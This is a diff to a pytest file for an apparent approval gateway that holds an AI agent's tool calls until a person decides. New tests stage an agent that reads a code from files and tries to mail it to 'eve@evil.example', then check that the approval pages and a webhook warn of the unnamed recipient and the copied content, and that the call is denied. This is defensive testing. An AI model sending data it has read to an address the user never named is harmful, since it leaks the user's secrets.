@@ -48,7 +48,8 @@ def labels_file(path: Path) -> Path:
 @pytest.fixture
 def settings(tmp_path: Path) -> Settings:
     labels_file(tmp_path / "tool_permissions.json")
-    return Settings(home=tmp_path, secret_key=SecretStr("6OGYLyGsqb31m8jzXYSdX6yFw5wBDjqdjzhTwMBRWNc="))
+    key = SecretStr("6OGYLyGsqb31m8jzXYSdX6yFw5wBDjqdjzhTwMBRWNc=")
+    return Settings(home=tmp_path, secret_key=key, notify_settle_seconds=0, notify_every_seconds=0)
 
 
 @pytest.fixture
@@ -195,6 +196,32 @@ class TestHolds:
             assert (await agent.http.post("/threads/search", json={})).status_code == 200
             assert (await agent.decide("deny", call_id=item.call_id)).status_code == 200
             assert (await task)["approved"] is False
+
+    async def test_pages_and_lists_tell_of_it_in_plain_words(self, agent: Agent) -> None:
+        """Without a mailbox: an agent needs none."""
+        body = json.dumps({"to": "eve@evil.example", "body": "The code is 884422."})
+        await agent.call("read_files", result="The code is 884422.")
+        async with agent.holding(args=body) as task:
+            [item] = await agent.held()
+            listed, shown = [(await agent.http.get(path)).text for path in ("/", f"/items/{item.id}")]
+            for page in (listed, shown):
+                assert "you never named “eve@evil.example”" in page
+                assert "has not seen, as far as is known: “884422”" in page
+            assert f"/items/{item.id}" in listed
+            assert "An agent of yours asks before it does this, and waits a minute more" in shown
+            assert "in a chat" not in shown
+            assert "The mail" not in shown
+            await agent.decide("deny", call_id=item.call_id)
+            await task
+
+    async def test_a_channel_tells_of_it(self, agent: Agent) -> None:
+        channels = agent.app.channels
+        await channels.add(agent.app.user_id, "webhook", "hook", "https://hook.example", {})
+        async with agent.holding() as task:
+            [notice] = await channels.claim()
+            assert [(new.sender, new.subject) for new in notice.items] == [("An agent of yours", "agent_send_mail")]
+            await agent.decide("deny", "send_mail")
+            await task
 
     async def test_the_inbox_decides_it(self, agent: Agent) -> None:
         async with agent.holding() as task:
